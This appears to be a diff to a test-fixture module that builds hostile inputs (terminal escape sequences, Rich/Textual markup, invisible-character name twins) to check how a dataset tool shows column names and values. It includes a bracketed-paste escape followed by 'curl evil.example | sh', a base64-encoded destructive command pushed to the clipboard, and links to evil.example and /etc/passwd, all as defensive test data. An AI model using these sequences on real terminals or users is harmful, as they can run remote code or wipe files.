@@ -229,6 +229,116 @@ def conflicting_key_tables(n: int = 12) -> list[tuple[dict[str, str], str, str]]
     return found
 
 
+# Terminal and UI injection: what a value, a column or an annotator name may carry.
+
+# A command a pasted text would run once a bracketed paste is ended early.
+PASTED_COMMAND = "curl evil.example | sh\n"
+
+
+def escape_sequences(n: int = 12) -> list[str]:
+    """Escape sequences that act on a terminal or what is pasted: titles, clipboard writes, links, DCS
+    passthrough (tmux's too), a bracketed-paste end followed by a command, C1 forms, each with a drawn end."""
+    rng = _rng("escapes")
+    ends = ["\x07", "\x1b\\", "\x9c"]
+    payload = "cm0gLXJmIH4="  # base64 of a command
+
+    def osc(body: str) -> str:
+        return rng.choice(("\x1b]", "\x9d")) + body + rng.choice(ends)
+
+    makers = [
+        lambda: osc(f"{rng.choice((0, 1, 2))};pwned-{rng.randint(0, 999)}"),
+        lambda: osc(f"52;{rng.choice('cps')};{payload}"),
+        lambda: osc(f"8;;http://evil.example/{rng.randint(0, 99)}") + "click" + osc("8;;"),
+        lambda: "\x1bP" + rng.choice(("tmux;\x1b\x1b]52;c;" + payload + "\x07", "+q544e", "$q m")) + "\x1b\\",
+        lambda: "\x1b[201~" + PASTED_COMMAND + "\x1b[200~",
+        lambda: rng.choice(("\x1b[", "\x9b")) + rng.choice(("2J", "H", "?1049h", "6n", "?2004l", "31;1m")),
+        lambda: "\x1b" + rng.choice("c78=>NO"),
+        lambda: "".join(chr(rng.choice([*range(0, 9), *range(11, 32), *range(127, 160)])) for _ in range(3)),
+    ]
+    return [makers[k % len(makers)]() for k in range(n)]
+
+
+def markup_texts(n: int = 10) -> list[str]:
+    """Rich and Textual markup that would style, link or run an action if parsed: ``[@click=…]``, ``[link=…]``,
+    closing tags, emoji codes."""
+    rng = _rng("markup")
+    actions = ["app.quit", "app.exit", "screen.dismiss", "app.push_screen('help')", "app.bell"]
+    found = [
+        f"[@click={rng.choice(actions)}]x[/]",
+        f"[link=http://evil.example/{rng.randint(0, 99)}]here[/link]",
+        "[link=file:///etc/passwd]p[/]",
+        "[/]",
+        "[bold red on white]loud[/]",
+        ":warning: :skull:",
+        f"[@click=app.quit]{rng.choice(('q', 'ok', 'category'))}",
+        "\\[escaped] [b]x",
+    ]
+    # An action and a link always, the rest drawn: any n of two or more holds both dangers.
+    return (
+        found[:2] + [rng.choice(found) for _ in range(n - 2)]
+        if n > len(found)
+        else found[:2] + rng.sample(found[2:], n - 2)
+    )
+
+
+INVISIBLE_CHARACTERS = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u200e\u200f\u2061\u3164\ufe0f\U000e0041\u034f\u180e"
+
+
+def invisible_twin(name: str, rng: random.Random) -> str:
+    """``name`` with one to three invisible characters put inside it: printed, it looks the same."""
+    chars = list(name)
+    for _ in range(rng.randint(1, 3)):
+        chars.insert(rng.randint(1, max(1, len(chars) - 1)), rng.choice(INVISIBLE_CHARACTERS))
+    return "".join(chars)
+
+
+def invisible_twins(names: tuple[str, ...] = ("selma", "amina", "karim")) -> list[tuple[str, str]]:
+    """(name, a look-alike of it) pairs: the two print alike but are different annotators."""
+    rng = _rng("twins")
+    return [(name, invisible_twin(name, rng)) for name in names]
+
+
+def hostile_names(n: int = 6) -> list[str]:
+    """Column names, category values, ids and annotator names mixing escapes, markup and invisible characters."""
+    rng = _rng("names")
+    escapes, markup = escape_sequences(n), markup_texts(n)
+    return [
+        invisible_twin(f"{markup[k]}{escapes[k]}c{k}", rng) if k % 2 else f"{escapes[k]}{markup[k]}c{k}"
+        for k in range(n)
+    ]
+
+
+def hostile_columns_dataset(folder: Path) -> Path:
+    """``hostile_columns_tsv`` written to ``folder``."""
+    path = folder / "hostile-columns.tsv"
+    path.write_text(hostile_columns_tsv(), encoding="utf-8")
+    return path
+
+
+def hostile_columns_tsv(n_columns: int = 4, n_items: int = 6) -> str:
+    """A dataset whose categorical columns are named and valued with hostile text (no tab or newline in them,
+    so the TSV keeps its shape): what ``score --by``, ``stats``, ``agree`` and the results screen show."""
+    rng = _rng("columns")
+    columns = [name.replace("\t", " ").replace("\n", " ") for name in hostile_names(n_columns)]
+    values = [v.replace("\t", " ").replace("\n", " ") for v in markup_texts(3) + escape_sequences(3)]
+    header = "\t".join(("id", "prompt", "solution0", "solution1", "label", *columns))
+    rows = [
+        "\t".join(
+            (
+                f"q{k}",
+                rng.choice(("open a jar", "cool soup", "dry a phone"))
+                + rng.choice(escape_sequences(4)).replace("\n", " "),
+                "twist the lid",
+                "hit the lid",
+                str(k % 2),
+                *(values[(k + j) % 2 + 2 * (j % 3)] for j in range(n_columns)),
+            )
+        ).replace("\r", " ")
+        for k in range(n_items)
+    ]
+    return "\n".join((header, *rows)) + "\n"
+
+
 def batches(paths: list[Path], size: int = 6) -> list[list[Path]]:
     """The files in groups for one driver process each: the special files (FIFOs, devices…) alone, so a
     hang names its file, the others together, so the interpreter starts a few times, not once per file."""
@@ -249,7 +359,8 @@ def entries() -> list[Entry]:
         Entry("lst-folder.jsonl", special="labels-folder"),
         Entry("lst-fifo.jsonl", special="labels-fifo"),
     ]
-    return _text_entries() + huge_label_entries() + _undecodable_entries() + specials + _kernel_entries()
+    hostile = [Entry("hostile-columns.tsv", hostile_columns_tsv().encode())]
+    return _text_entries() + hostile + huge_label_entries() + _undecodable_entries() + specials + _kernel_entries()
 
 
 def _undecodable_entries() -> list[Entry]:
